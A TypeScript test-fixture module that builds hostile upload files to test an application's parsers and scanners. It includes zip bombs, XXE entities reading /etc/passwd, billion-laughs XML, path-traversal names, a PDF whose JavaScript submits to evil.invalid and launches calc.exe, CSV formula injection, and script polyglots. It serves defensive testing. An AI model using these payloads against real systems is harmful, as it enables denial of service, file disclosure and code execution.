import { crc32, deflateSync } from 'node:zlib'
import { EICAR } from '../../tests/support/clam-daemon.ts'
import { MARK } from '../people/mark.ts'
import { type ZipEntry, zipOf } from './zip-of.ts'

/** A file that is made to harm who opens it. `isInfected`: malware, by what scanners are tried with. */
export type HostileFile = Readonly<{ name: string; type: string; bytes: Buffer; isInfected?: true }>

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const MEGABYTE = 1024 * 1024
const text = (words: string): Buffer => Buffer.from(words, 'utf8')
const entry = (name: string, words: string | Buffer): ZipEntry => ({
  name,
  bytes: typeof words === 'string' ? text(words) : words,
})

const TYPES = entry(
  '[Content_Types].xml',
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
)
const relations = (target: string) =>
  entry(
    '_rels/.rels',
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/></Relationships>`,
  )
const WORKBOOK = [
  TYPES,
  relations('xl/workbook.xml'),
  entry(
    'xl/workbook.xml',
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
  ),
  entry(
    'xl/_rels/workbook.xml.rels',
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
  ),
]
const sheet = (inside: string, before = '') =>
  entry(
    'xl/worksheets/sheet1.xml',
    `<?xml version="1.0"?>${before}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${inside}</worksheet>`,
  )
const cell = (at: string, words: string) => `<c r="${at}" t="inlineStr"><is><t>${words}</t></is></c>`
const document = (inside: string, before = '') =>
  entry(
    'word/document.xml',
    `<?xml version="1.0"?>${before}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${inside}</w:body></w:document>`,
  )
const paragraph = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`

const ENTITY = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(50)}">${Array.from({ length: 9 }, (_, level) => `<!ENTITY ${'bcdefghij'[level]} "${`&${'abcdefghi'[level]};`.repeat(10)}">`).join('')}]>`

const workbooks = (): readonly HostileFile[] => {
  const made = (name: string, entries: readonly ZipEntry[]) => ({ name, type: XLSX, bytes: zipOf(entries) })
  const bomb = sheet(`<sheetData>${' '.repeat(300 * MEGABYTE)}</sheetData>`)
  return [
    made('bomb.xlsx', [...WORKBOOK, bomb]),
    made('bomb-that-lies.xlsx', [...WORKBOOK, { ...bomb, size: 100 }]),
    made('overlapping.xlsx', [
      ...WORKBOOK,
      ...Array.from({ length: 3_000 }, (_, number) => ({
        ...entry(`xl/${number}.xml`, 'x'.repeat(1_000)),
        at: 0,
      })),
    ]),
    made('nested.xlsx', [
      ...WORKBOOK,
      entry('inner.zip', zipOf([entry('inner.zip', zipOf([entry('zeros', Buffer.alloc(50 * MEGABYTE))]))])),
    ]),
    made('entity.xlsx', [
      ...WORKBOOK,
      sheet(`<sheetData><row r="1">${cell('A1', '&e;')}</row></sheetData>`, ENTITY),
    ]),
    made('laughs.xlsx', [
      ...WORKBOOK,
      sheet(`<sheetData><row r="1">${cell('A1', '&j;')}</row></sheetData>`, LAUGHS),
    ]),
    made('far-cell.xlsx', [
      ...WORKBOOK,
      sheet(
        `<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576">${cell('XFD1048576', 'x')}</row></sheetData>`,
      ),
    ]),
    made('wrong-cells.xlsx', [
      ...WORKBOOK,
      sheet(
        `<sheetData><row r="-5">${cell('ZZZZZ99999999999', 'x')}${cell('', 'y')}<c r="A1" t="s"><v>999999</v></c></row></sheetData>`,
      ),
    ]),
    made('names.xlsx', [
      ...WORKBOOK,
      sheet('<sheetData/>'),
      entry('../../../../tmp/proof-traversal', MARK),
      entry('/etc/proof', MARK),
      entry('..\\..\\x', MARK),
    ]),
    made('macro.xlsx', [
      ...WORKBOOK,
      sheet('<sheetData/>'),
      entry('xl/vbaProject.bin', Buffer.alloc(4_000, 0xd0)),
    ]),
    made('locked.xlsx', [...WORKBOOK, { ...sheet('<sheetData/>'), isEncrypted: true }]),
    made('nothing.xlsx', []),
    { name: 'cut.xlsx', type: XLSX, bytes: zipOf([...WORKBOOK, sheet('<sheetData/>')]).subarray(0, 700) },
    made('formulas.xlsx', [
      ...WORKBOOK,
      sheet(
        `<sheetData><row r="1"><c r="A1"><f>HYPERLINK("http://evil.invalid")</f><v>1</v></c></row></sheetData>`,
      ),
    ]),
  ]
}

const documents = (): readonly HostileFile[] => {
  const made = (name: string, entries: readonly ZipEntry[]) => ({ name, type: DOCX, bytes: zipOf(entries) })
  const basis = [TYPES, relations('word/document.xml')]
  return [
    made('bomb.docx', [...basis, document(' '.repeat(300 * MEGABYTE))]),
    made('entity.docx', [...basis, document(paragraph('&e;'), ENTITY)]),
    made('laughs.docx', [...basis, document(paragraph('&j;'), LAUGHS)]),
    made('deep.docx', [...basis, document(`${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}`)]),
    made('template.docx', [
      ...basis,
      document(paragraph('x')),
      entry(
        'word/_rels/document.xml.rels',
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>',
      ),
    ]),
  ]
}

function pdfOf(objects: readonly string[], trailer = '<</Root 1 0 R>>'): Buffer {
  let written = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const place = written.length
    written += `${index + 1} 0 obj${object}endobj\n`
    return place
  })
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  return Buffer.from(
    `${written}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer${trailer}\nstartxref\n${written.length}\n%%EOF\n`,
    'latin1',
  )
}

const pdfs = (): readonly HostileFile[] => {
  const type = 'application/pdf'
  const pages = (count: number) => [
    '<</Type/Pages/Count ' +
      count +
      '/Kids[' +
      Array.from({ length: count }, (_, page) => `${page + 3} 0 R`).join(' ') +
      ']>>',
    ...Array.from({ length: count }, () => '<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>'),
  ]
  const script = `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.invalid'\\))>>/AA<</O<</S/Launch/F(calc.exe)>>>>>>`
  const whole = pdfOf(['<</Type/Catalog/Pages 2 0 R>>', ...pages(1)])
  return [
    { name: 'script.pdf', type, bytes: pdfOf([script, ...pages(1)]) },
    { name: 'cut.pdf', type, bytes: whole.subarray(0, 60) },
    {
      name: 'locked.pdf',
      type,
      bytes: pdfOf(
        ['<</Type/Catalog/Pages 2 0 R>>', ...pages(1)],
        `<</Root 1 0 R/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O(${'o'.repeat(32)})/U(${'u'.repeat(32)})>>/ID[(a)(b)]>>`,
      ),
    },
    {
      name: 'ten-thousand-pages.pdf',
      type,
      bytes: pdfOf(['<</Type/Catalog/Pages 2 0 R>>', ...pages(10_000)]),
    },
    {
      name: 'own-parent.pdf',
      type,
      bytes: pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>']),
    },
    { name: 'page.pdf', type, bytes: Buffer.concat([whole, text(`<script>${MARK}</script>`)]) },
  ]
}

function pngOf(width: number, height: number, behind: Buffer = Buffer.alloc(0)): Buffer {
  const chunk = (name: string, bytes: Buffer) => {
    const named = Buffer.concat([Buffer.from(name, 'latin1'), bytes])
    const head = Buffer.alloc(4)
    head.writeUInt32BE(bytes.length)
    const sum = Buffer.alloc(4)
    sum.writeUInt32BE(crc32(named))
    return Buffer.concat([head, named, sum])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2], 8)
  const row = Buffer.alloc(1 + Math.min(width, 10_000) * 3)
  return Buffer.concat([
    Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.concat(Array.from({ length: Math.min(height, 100) }, () => row)))),
    chunk('IEND', Buffer.alloc(0)),
    behind,
  ])
}

/** A JPEG that says where it was taken: EXIF with a position, no picture to speak of. */
function jpegWithPlace(): Buffer {
  const tiff = Buffer.alloc(90)
  tiff.write('II*\u0000', 0, 'latin1')
  tiff.writeUInt32LE(8, 4)
  tiff.writeUInt16LE(1, 8)
  tiff.writeUInt16LE(0x8825, 10)
  tiff.writeUInt16LE(4, 12)
  tiff.writeUInt32LE(1, 14)
  tiff.writeUInt32LE(26, 18)
  tiff.writeUInt16LE(1, 26)
  tiff.writeUInt16LE(1, 28)
  tiff.writeUInt16LE(2, 30)
  tiff.writeUInt32LE(2, 32)
  tiff.write('N', 36, 'latin1')
  const exif = Buffer.concat([Buffer.from('Exif\u0000\u0000', 'latin1'), tiff])
  const size = Buffer.alloc(2)
  size.writeUInt16BE(exif.length + 2)
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1]), size, exif, Buffer.from([0xff, 0xd9])])
}

const pictures = (): readonly HostileFile[] => [
  { name: 'huge.png', type: 'image/png', bytes: pngOf(60_000, 60_000) },
  { name: 'largest.png', type: 'image/png', bytes: pngOf(2 ** 31 - 1, 2 ** 31 - 1) },
  { name: 'page.png', type: 'image/png', bytes: pngOf(1, 1, text(`<html><script>${MARK}</script>`)) },
  { name: 'place.jpg', type: 'image/jpeg', bytes: jpegWithPlace() },
  {
    name: 'script.svg',
    type: 'image/svg+xml',
    bytes: text(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}()"><script>${MARK}()</script></svg>`,
    ),
  },
  { name: 'script.gif', type: 'image/gif', bytes: text(`GIF89a/*\u0001\u0000*/=1;${MARK}()`) },
  { name: 'script.png', type: 'image/png', bytes: text(`<script>${MARK}()</script>`) },
]

const sheetsOfText = (): readonly HostileFile[] => [
  { name: 'formulas.csv', type: 'text/csv', bytes: text(`=cmd|' /C calc'!A0,+1,-1,@x\n"=${MARK}()",2\n`) },
  { name: 'one-line.csv', type: 'text/csv', bytes: Buffer.alloc(24 * MEGABYTE, 'a,') },
  {
    name: 'one-quote.csv',
    type: 'text/csv',
    bytes: Buffer.concat([text('a,b\n"'), Buffer.alloc(8 * MEGABYTE, 'x')]),
  },
  { name: 'zeros.csv', type: 'text/csv', bytes: Buffer.alloc(100_000) },
  {
    name: 'utf16.csv',
    type: 'text/csv',
    bytes: Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(`a,b\n<${MARK}>,1`, 'utf16le'),
      Buffer.from([0xd8]),
    ]),
  },
  { name: 'deep.json', type: 'application/json', bytes: text('['.repeat(200_000)) },
  {
    name: 'proto.json',
    type: 'application/json',
    bytes: text('{"__proto__":{"x":1},"issues":[{"__proto__":null}]}'),
  },
  { name: 'page.html', type: 'text/html', bytes: text(`<!doctype html><script>${MARK}()</script>`) },
  { name: 'nothing.txt', type: 'text/plain', bytes: Buffer.alloc(0) },
  {
    name: 'program.exe',
    type: 'application/octet-stream',
    bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(1_000)]),
  },
  { name: 'eicar.txt', type: 'text/plain', bytes: text(EICAR), isInfected: true },
]

const NAMES = [
  '',
  '.',
  '..',
  '../../../etc/passwd',
  '..\\..\\x.txt',
  'a/b/c.txt',
  '\u202etxt.exe',
  'a\u0000.txt',
  'a\r\nX-mrkz: 1.txt',
  `${'n'.repeat(2_000)}.txt`,
  `${'\u0e01'.repeat(300)}.txt`,
  `"><${MARK}>.txt`,
  'CON.txt',
  '.htaccess',
  '=cmd().csv',
  'x.txt ',
  'x.pdf.exe',
  '\ud800.txt',
  '%2e%2e%2f.txt',
  '-rf.txt',
  '~root.txt',
]

const named = (): readonly HostileFile[] =>
  NAMES.map((name, number) => ({
    name,
    type: 'text/plain',
    bytes: text(`a file of another name, ${number}`),
  }))

/** Every hostile file, made anew: none of them lies in the repository. */
export const hostileFiles = (): readonly HostileFile[] => [
  ...workbooks(),
  ...documents(),
  ...pdfs(),
  ...pictures(),
  ...sheetsOfText(),
  ...named(),
]
